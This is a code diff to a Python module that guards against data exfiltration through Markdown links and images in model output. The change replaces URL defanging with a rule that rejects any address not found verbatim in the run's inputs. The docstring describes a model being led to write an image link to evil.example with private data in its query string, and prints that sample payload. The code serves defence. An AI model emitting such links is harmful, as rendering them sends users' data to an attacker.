@@ -1,23 +1,22 @@
-"""Addresses in what an agent says: whoever shows them as Markdown may load them, and tell their host what they hold.
+"""Addresses in what a model says: whoever shows them as Markdown may load them, and tell their host what they hold.
 
 A model that has read ``![](https://evil.example/?d=…)`` may write it, with what it knows in place of the dots; a window
-that renders the answer then sends it there, without a tool and without a click. So an answer is disarmed before it is
-shown: addresses that nobody vouches for stay readable, and are no links and no images any more.
+that renders the answer then sends it there, without a tool and without a click. So every address that a model writes
+for people has to stand word for word in what the run was given. An invented one is refused by the same rule.
 """
 
 from __future__ import annotations
 
 import re
-from fnmatch import fnmatchcase
 from functools import cache
 from html import unescape
 from typing import TYPE_CHECKING
-from urllib.parse import urlsplit
 
+from tercet.errors import InputError
 from tercet.sanitize import sanitize
 
 if TYPE_CHECKING:
-    from collections.abc import Iterator, Sequence
+    from collections.abc import Collection, Iterable, Iterator
 
     from markdown_it import MarkdownIt
     from markdown_it.token import Token
@@ -29,10 +28,8 @@ _ADDRESS = re.compile(
 """One that holds another is two: what may be loaded in front says nothing of what follows."""
 _ATTRIBUTE = re.compile(r"(?:src|href|srcset|data|action|poster|background)\s*=\s*[\"']?([^\"'\s>]+)", re.IGNORECASE)
 _SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:", re.IGNORECASE)
-_HTTP = re.compile(r"htt(ps?)", re.IGNORECASE)
-_WWW = re.compile(r"\bwww\\?\.", re.IGNORECASE)
 _CLOSING = ".,;:!?)]}*_~|"
-_PUNCTUATION = re.compile(r"([\\`*_{}\[\]()<>#+\-.!|&~\"':=^$@/])")
+_SHOWN = 100
 
 
 def addresses(text: str) -> tuple[str, ...]:
@@ -48,67 +45,29 @@ def addresses(text: str) -> tuple[str, ...]:
     return tuple(dict.fromkeys((*_rendered(text), *_written(text))))
 
 
-def disarm(text: str, *, allowed: Sequence[str] = ()) -> str:
-    """The text with every address made inert that is not allowed.
-
-    ``https://`` becomes ``hxxps://`` and ``www.`` becomes ``www[.]``. If an address is written in a way that only a
-    renderer understands, all Markdown and HTML in the text is shown as it is written.
+def check_addresses(texts: Iterable[str], given: Collection[str]) -> None:
+    """See that every address stands in what the run was given.
 
     Args:
-        text: Of a model.
-        allowed: Globs, with ``*`` for any characters, such as ``"https://docs.acme.example/*"``; a host stands before
-            the first ``*``. Addresses that the user named may stand here as they are.
+        texts: Of a model.
+        given: All that the run has seen.
 
-    Example:
-        >>> disarm("![logo](https://evil.example/?d=81204) https://acme.example/a", allowed=["https://acme.example/*"])
-        '![logo](hxxps://evil.example/?d=81204) https://acme.example/a'
+    Raises:
+        InputError: One does not; the message is for the model to mend it by.
     """
-    text = sanitize(text)[0]
-    if _is_allowed_text(text, allowed):
-        return text
-    text = _ADDRESS.sub(lambda found: _inert(found.group(), allowed), text)
-    if _is_allowed_text(text, allowed):
-        return text
-    escaped = _PUNCTUATION.sub(r"\\\1", text)
-    return _WWW.sub("www[.]", _HTTP.sub(r"hxx\1", escaped))
-
-
-def _is_allowed_text(text: str, allowed: Sequence[str]) -> bool:
-    return all(_is_allowed(address, allowed) for address in addresses(text))
-
-
-def _is_allowed(address: str, allowed: Sequence[str]) -> bool:
-    return any(fnmatchcase(address, _literal(glob)) and _same_host(address, glob) for glob in allowed)
-
-
-def _literal(glob: str) -> str:
-    """Only ``*`` means anything in an address: it may hold ``?`` and brackets itself."""
-    return re.sub(r"([?\[])", r"[\1]", glob)
-
-
-def _same_host(address: str, glob: str) -> bool:
-    """``https://acme.example*`` shall not allow ``https://acme.example.evil.example`` nor ``…@evil.example``."""
-    try:
-        wanted, host = urlsplit(glob).netloc, urlsplit(address).netloc
-    except ValueError:
-        return False
-    return wanted.lower() == host.lower() or (wanted.startswith("*.") and host.lower().endswith(wanted[1:].lower()))
-
-
-def _inert(address: str, allowed: Sequence[str]) -> str:
-    bare = address.rstrip(_CLOSING)
-    if _is_allowed(bare, allowed):
-        return address
-    if address[:4].lower() == "www.":
-        return f"www[.]{address[4:]}"
-    scheme, _, rest = address.partition("//")
-    return f"hxx{scheme[3:]}//{rest}" if scheme.lower() in ("http:", "https:") else f"{scheme}/ /{rest}"
+    for text in texts:
+        for address in addresses(sanitize(text)[0]):
+            spellings = {address, unescape(address)}
+            if not any(one in seen or one in unescape(seen) for one in spellings for seen in given):
+                raise InputError(
+                    f"There is no address {address[:_SHOWN]!r} in anything that you were given.",
+                    remedy="Leave it out, or write an address exactly as it was given.",
+                )
 
 
 def _written(text: str) -> Iterator[str]:
     for found in _ADDRESS.finditer(text):
-        if not found.group().lower().startswith("hxx"):
-            yield found.group().rstrip(_CLOSING)
+        yield found.group().rstrip(_CLOSING)
 
 
 def _rendered(text: str) -> Iterator[str]:
@@ -143,5 +102,4 @@ def _targets(token: Token) -> Iterator[str]:
 
 def _leads_away(target: str) -> bool:
     """Whether it has a scheme or a host; others are places in whatever shows the text."""
-    inert = target.lower().startswith("hxx")
-    return not inert and (_SCHEME.match(target) is not None or target.replace("\\", "/").startswith("//"))
+    return _SCHEME.match(target) is not None or target.replace("\\", "/").startswith("//")
